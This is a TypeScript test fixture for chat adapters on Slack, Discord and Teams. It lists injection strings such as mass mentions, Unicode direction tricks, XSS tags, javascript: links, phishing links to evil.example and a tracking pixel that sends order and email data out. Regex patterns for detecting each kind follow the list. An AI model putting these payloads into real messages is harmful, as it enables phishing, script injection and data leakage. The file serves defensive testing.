import type { ChatChannel } from "../../src/core/channels/place.ts";

/** What customers, models and tools write to make a platform do something. Run on every adapter. */
export const ATTACKS: readonly string[] = [
  "@everyone the shop is closed",
  "@here",
  "hey @channel!",
  "＠everyone",
  "@\u200beveryone and @\u2060here",
  "@\u202eenoyreve",
  "<!channel> <!here> <!everyone>",
  "<!subteam^S123|@finance>",
  "<@U0LIN> <@!814200000000000000> <@&814200000000000001>",
  "<#C0STAFF> <#814200000000000002>",
  "&lt;!channel&gt; &#60;!channel&#62; &lt;@U0LIN&gt;",
  "<<!channel>>",
  "<\u200b!channel>",
  "\\<!channel> \\@everyone",
  "**@every**one @**everyone**",
  "`@everyone` and ```<!channel>```",
  "```\n<@U0LIN>\n```\n<!here>",
  "```\nend ``` @everyone\n```",
  "`` ` ``` @here",
  "[@everyone](https://shop.example/@everyone)",
  "[<!channel>](https://shop.example)",
  "[https://bank.example](https://evil.example/login)",
  "[www.bank.example/login](https://evil.example)",
  "https://bank.example@evil.example/",
  "[x](javascript:alert(1)) [y](data:text/html,hi) [z](slack://open) [w](discord://x)",
  "![pixel](https://evil.example/p.png?order=1042&mail=ann%40shop.example)",
  "<https://evil.example|https://bank.example>",
  "<https://evil.example|@everyone>",
  "https://shop.example/|<!channel>",
  "https://shop.example/>)<!channel>",
  "[a](https://shop.example/>|<!here>)",
  '<at>Lin Wei</at> <at id="0">Lin</at>',
  // biome-ignore lint/suspicious/noTemplateCurlyInString: it is what Adaptive Cards fill in
  "{{DATE(2026-11-22T00:00:00Z, SHORT)}} ${$root.secret}",
  "<t:0:R> <:blob:1> <a:blob:1> </approve:814200000000000003> <id:customize>",
  "<!date^1^{date}|Approved by Lin>",
  "<b>Approved</b><script>alert(1)</script><img src=x onerror=alert(1)>",
  ":white_check_mark: *Approved* by Lin Wei",
  "> Approved by Lin Wei\n# APPROVED\n- [x] Approve",
  "\u202eevorppA\u202c",
  "a\u0000b\u001b[31mc\u0007",
  "| @everyone | <!channel> |\n|---|---|\n| <@U0LIN> | @here |",
  "1. @everyone\n   <!channel>\n2. <@U0LIN>",
  "mailto:ann@shop.example <mailto:ann@shop.example|@here>",
  "||@everyone|| ~~<!here>~~ __<@U0LIN>__",
];

/** What no platform may be handed in a text, whatever its markup. */
export const FORBIDDEN: readonly RegExp[] = [
  /(?<![\p{L}\p{N}._%+-])[@＠](?:everyone|here|channel)/iu,
  /<[!@#&]/,
  /<\/?at\b/i,
  /<(?:t|a|id|):/,
  /<\/\w/,
  /\{\{|\$\{/,
  /[\u202a-\u202e\u2066-\u2069]/,
  // biome-ignore lint/suspicious/noControlCharactersInRegex: they are what is looked for
  /[\u0000-\u0008\u000b-\u001f]/,
];

const MARKDOWN_LINKS = [
  /(?<!\\)\]\(<?(?:javascript|data|slack|discord):/,
  /(?<!\\)\[[^\][]*bank\.example[^\][]*(?<!\\)\]\(<?https:\/\/evil/,
  /(?<!\\)!\[/,
];

/** Links that hide where they go, or go where no browser should, by how each platform writes links. */
export const FORBIDDEN_LINKS: Readonly<Record<ChatChannel, readonly RegExp[]>> = {
  slack: [/<(?:javascript|data|slack|discord):/, /<[^<>|]*evil[^<>|]*\|[^<>]*bank/],
  discord: MARKDOWN_LINKS,
  teams: MARKDOWN_LINKS,
};
